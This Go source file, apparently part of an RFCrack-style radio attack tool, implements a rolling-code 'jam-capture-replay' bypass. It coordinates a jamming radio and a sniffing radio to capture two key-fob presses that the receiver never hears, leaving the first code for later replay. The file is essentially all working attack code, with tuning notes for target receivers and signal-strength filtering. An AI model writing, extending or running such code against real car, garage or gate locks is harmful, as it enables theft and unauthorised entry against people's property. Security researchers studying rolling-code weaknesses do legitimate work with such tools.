package attack

import (
	"context"
	"time"

	"go.uber.org/zap"

	"github.com/cclabsInc/RFCrack/capture"
	"github.com/cclabsInc/RFCrack/jam"
	"github.com/cclabsInc/RFCrack/rfcat"
)

// BypassConfig tunes one jam-capture-replay session.
type BypassConfig struct {
	Frequency  uint32
	Modulation rfcat.Modulation

	// JammingVariance offsets the jam carrier from the sniffed frequency.
	JammingVariance uint32

	// CaptureTimeout bounds each capture phase. Expiry is fatal to the
	// session (ErrNoCapture), unlike the per-listen timeouts inside it.
	CaptureTimeout time.Duration

	// WindowGap is how long jamming pauses after the first capture so a
	// second button press can reach the sniffer while the receiver has
	// heard neither. Empirically tuned per target; there is no correct
	// value to hard-code.
	WindowGap time.Duration

	// RSSI bounds for counting a capture as a real button press. A capture
	// is accepted when UpperRSSI < rssi < LowerRSSI (dBm, so e.g. -100 and
	// -20). Zero values disable the gate.
	UpperRSSI int
	LowerRSSI int
}

// BypassResult carries the two codes captured while the receiver was
// blinded. First was never consumed by the receiver; replaying it later is
// the caller's deferred step.
type BypassResult struct {
	First  *capture.Capture
	Second *capture.Capture
}

// Bypass coordinates two radio handles through the rolling-code
// jam-capture-replay protocol: jam the receiver, capture the first press it
// never hears, open a short window for a second press, capture that too,
// then disarm. Each handle has exactly one owner: the jammer drives
// jamHandle, the coordinator's goroutine drives sniffHandle.
type Bypass struct {
	jammer *jam.Jammer
	jamID  string
	sniff  *rfcat.Handle
	cfg    BypassConfig
	log    *zap.Logger
}

func NewBypass(jamHandle, sniffHandle *rfcat.Handle, cfg BypassConfig, log *zap.Logger) *Bypass {
	return &Bypass{
		jammer: jam.New(jamHandle, cfg.JammingVariance, log),
		jamID:  jamHandle.ID,
		sniff:  sniffHandle,
		cfg:    cfg,
		log:    log,
	}
}

// Run drives the session to completion or first failure. On every exit path,
// success or not, jamming is stopped before control returns.
func (b *Bypass) Run(ctx context.Context) (res *BypassResult, err error) {
	// Arm
	if cfgErr := b.sniff.Configure(b.cfg.Frequency, b.cfg.Modulation); cfgErr != nil {
		return nil, &DriverError{Handle: b.sniff.ID, Op: "configure", Err: cfgErr}
	}
	if jamErr := b.jammer.Start(ctx, b.cfg.Frequency); jamErr != nil {
		return nil, &DriverError{Handle: b.jamID, Op: "start-jam", Err: jamErr}
	}
	defer func() {
		if stopErr := b.jammer.Stop(); stopErr != nil && err == nil {
			err = &DriverError{Handle: b.jamID, Op: "stop-jam", Err: stopErr}
		}
	}()

	// CaptureFirst
	b.log.Info("armed, waiting for first code", zap.Uint32("frequency", b.cfg.Frequency))
	first, err := b.captureCode(ctx)
	if err != nil {
		return nil, err
	}

	// WindowOpen: drop the carrier briefly so the second press, when it
	// comes, reaches the sniffer without the first one ever having reached
	// the receiver.
	if err := b.jammer.Stop(); err != nil {
		return nil, &DriverError{Handle: b.jamID, Op: "stop-jam", Err: err}
	}
	b.log.Info("window open", zap.Duration("gap", b.cfg.WindowGap))
	select {
	case <-time.After(b.cfg.WindowGap):
	case <-ctx.Done():
		return nil, cancelled(ctx.Err())
	}

	// CaptureSecond
	if err := b.jammer.Start(ctx, b.cfg.Frequency); err != nil {
		return nil, &DriverError{Handle: b.jamID, Op: "start-jam", Err: err}
	}
	b.log.Info("waiting for second code")
	second, err := b.captureCode(ctx)
	if err != nil {
		return nil, err
	}

	// Disarm happens in the deferred stop. Identical first/second payloads
	// are accepted: some remotes retransmit unchanged frames.
	return &BypassResult{First: first, Second: second}, nil
}

// captureCode blocks until the sniffer yields a non-empty payload that
// passes the RSSI gate, the session timeout expires, or the context is
// cancelled. Listens are sliced so cancellation is observed promptly.
func (b *Bypass) captureCode(ctx context.Context) (*capture.Capture, error) {
	deadline := time.Now().Add(b.cfg.CaptureTimeout)
	for {
		if err := ctx.Err(); err != nil {
			return nil, cancelled(err)
		}
		remaining := time.Until(deadline)
		if remaining <= 0 {
			return nil, ErrNoCapture
		}

		slice := remaining
		if slice > 500*time.Millisecond {
			slice = 500 * time.Millisecond
		}

		data, err := b.sniff.Receive(slice)
		if err != nil {
			return nil, &DriverError{Handle: b.sniff.ID, Op: "receive", Err: err}
		}
		if len(data) == 0 {
			continue
		}
		if !b.pressInRange() {
			b.log.Debug("capture outside RSSI bounds, ignoring")
			continue
		}
		return capture.New(data, b.sniff.Frequency, b.sniff.Modulation)
	}
}

// pressInRange checks the sniffer's signal strength against the configured
// bounds, so jam bleed-through and distant noise are not mistaken for a
// button press.
func (b *Bypass) pressInRange() bool {
	if b.cfg.UpperRSSI == 0 && b.cfg.LowerRSSI == 0 {
		return true
	}
	rssi, err := b.sniff.RSSI()
	if err != nil {
		// The capture itself is good; a broken RSSI read should not veto it.
		b.log.Warn("RSSI read failed", zap.String("handle", b.sniff.ID), zap.Error(err))
		return true
	}
	return rssi > b.cfg.UpperRSSI && rssi < b.cfg.LowerRSSI
}
